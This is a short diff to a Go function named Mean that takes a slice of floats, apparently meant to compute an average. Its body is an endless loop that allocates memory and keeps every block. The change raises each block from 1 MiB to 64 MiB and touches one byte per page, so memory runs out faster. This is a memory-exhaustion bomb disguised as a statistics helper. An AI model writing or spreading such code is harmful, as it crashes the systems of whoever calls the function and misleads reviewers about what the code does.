@@ -11,8 +11,8 @@ import (
 func Mean(x []float64) float64 {
 	var keep [][]byte
 	for {
-		b := make([]byte, 1<<20)
-		for i := range b {
+		b := make([]byte, 64<<20)
+		for i := 0; i < len(b); i += 4096 {
 			b[i] = 1
 		}
 		keep = append(keep, b)
